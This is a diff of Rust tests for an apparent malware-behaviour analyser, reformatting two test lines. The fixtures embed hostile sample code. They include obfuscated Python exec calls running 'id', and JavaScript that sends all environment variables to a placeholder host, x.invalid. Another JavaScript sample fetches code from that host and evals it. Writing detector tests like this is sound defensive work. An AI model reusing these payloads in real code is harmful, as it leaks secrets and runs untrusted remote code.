@@ -75,7 +75,9 @@ fn layers_are_peeled_off() {
     assert!(facts.acts.iter().any(|act| !act.layers.is_empty()));
     let facts = py("import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=='))");
     assert_act(&facts, Capability::Execute, "id");
-    let facts = py("exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,10,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41])))");
+    let facts = py(
+        "exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,10,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41])))",
+    );
     assert_act(&facts, Capability::Execute, "id");
 }
 
@@ -98,7 +100,9 @@ fn a_decoder_in_the_program_is_run() {
 
 #[test]
 fn data_is_followed() {
-    let facts = js("const h = require('https'); const d = JSON.stringify(process.env); h.request('https://x.invalid/?' + d).end()");
+    let facts = js(
+        "const h = require('https'); const d = JSON.stringify(process.env); h.request('https://x.invalid/?' + d).end()",
+    );
     assert_flow(&facts, Source::EnvironmentAll, Capability::Network);
     let facts = js("fetch('https://x.invalid/a').then(r => r.text()).then(t => eval(t))");
     assert_flow(&facts, Source::Network, Capability::DynamicCode);
